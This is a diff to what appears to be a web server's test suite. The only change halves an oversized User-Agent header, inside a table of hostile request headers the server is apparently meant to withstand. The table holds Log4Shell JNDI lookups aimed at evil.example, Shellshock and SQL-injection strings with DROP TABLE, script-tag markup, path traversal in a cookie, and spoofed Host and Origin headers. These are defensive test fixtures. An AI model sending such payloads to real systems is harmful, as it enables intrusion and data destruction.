@@ -43,7 +43,7 @@ _WITHOUT_EFFECT: dict[str, Headers] = {
     'max forwards': (('Max-Forwards', '0'),), 'cookies': (('Cookie', 'a=b; ' * 2000),), 'bad cookie': (('Cookie', '=;;;="\xff'),),
     'session': (('Cookie', 'session=../../etc; __Host-x=1'),), 'log4j': (('User-Agent', '${jndi:ldap://evil.example/x}'), ('X-Api-Version', '${jndi:ldap://x}')),
     'shellshock': (('User-Agent', '() { :; }; /bin/true'),), 'markup': (('Referer', '<script>alert(1)</script>'), ('User-Agent', '<img src=x>')),
-    'statement': (('User-Agent', "' OR 1=1; DROP TABLE tasks"),), 'long agent': (('User-Agent', 'x' * 40_000),),
+    'statement': (('User-Agent', "' OR 1=1; DROP TABLE tasks"),), 'long agent': (('User-Agent', 'x' * 20_000),),
     'host of somebody else': (('Host', 'evil.example'),), 'host with a port': (('Host', 'evil.example:99999'),),
     'origin of somebody else': (('Origin', 'https://evil.example'),), 'no origin': (('Origin', 'null'),),
     'origin like ours': (('Origin', 'http://127.0.0.1.evil.example'),), 'fetch of another site': (('Sec-Fetch-Site', 'cross-site'), ('Origin', 'https://evil.example')),
